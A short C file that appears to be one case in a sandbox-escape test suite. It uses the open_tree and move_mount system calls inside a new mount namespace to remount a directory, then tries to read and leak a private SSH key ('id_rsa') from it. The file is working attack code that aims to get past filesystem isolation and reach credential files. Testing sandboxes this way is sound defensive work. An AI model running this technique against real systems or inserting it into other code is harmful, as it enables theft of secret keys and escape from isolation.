/* SPDX-License-Identifier: Apache-2.0 */
/* The same by the newer calls: open_tree(OPEN_TREE_CLONE) and move_mount. */
#define ATTACK "move-mount"
#include "attack.h"

int main(int count, char **argument)
{
	char *place = text("%s/moved", argument[2]);
	int tree;

	(void)count;
	become_namespace_root(CLONE_NEWNS);
	prepare("mkdir", mkdir(place, 0700));
	tree = prepare("open_tree", syscall(SYS_open_tree, AT_FDCWD, argument[1], 1 | AT_RECURSIVE));
	prepare("move_mount", syscall(SYS_move_mount, tree, "", AT_FDCWD, place, 4));
	open_and_leak(text("%s/id_rsa", place));
}
